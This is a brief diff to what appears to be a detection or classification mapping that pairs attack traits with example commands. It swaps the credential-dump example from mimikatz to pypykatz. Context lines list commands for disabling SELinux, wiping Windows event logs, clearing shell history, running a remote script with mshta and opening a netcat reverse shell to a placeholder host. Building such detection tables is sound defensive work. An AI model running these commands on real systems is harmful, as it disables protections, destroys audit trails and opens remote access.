@@ -70,7 +70,7 @@ DONE: Mapping[str, str] = {
     Trait.PROTECTION_OFF: "setenforce 0",
     Trait.PERSISTENCE: "systemctl enable x",
     Trait.LOG_WIPE: "wevtutil cl System",
-    Trait.CREDENTIAL_DUMP: "mimikatz",
+    Trait.CREDENTIAL_DUMP: "pypykatz",
     Trait.HISTORY_CLEAR: "history -c",
     Trait.REMOTE_SCRIPT: "mshta https://host/x",
     Trait.REVERSE_SHELL: "nc host.example 1 -e /bin/sh",
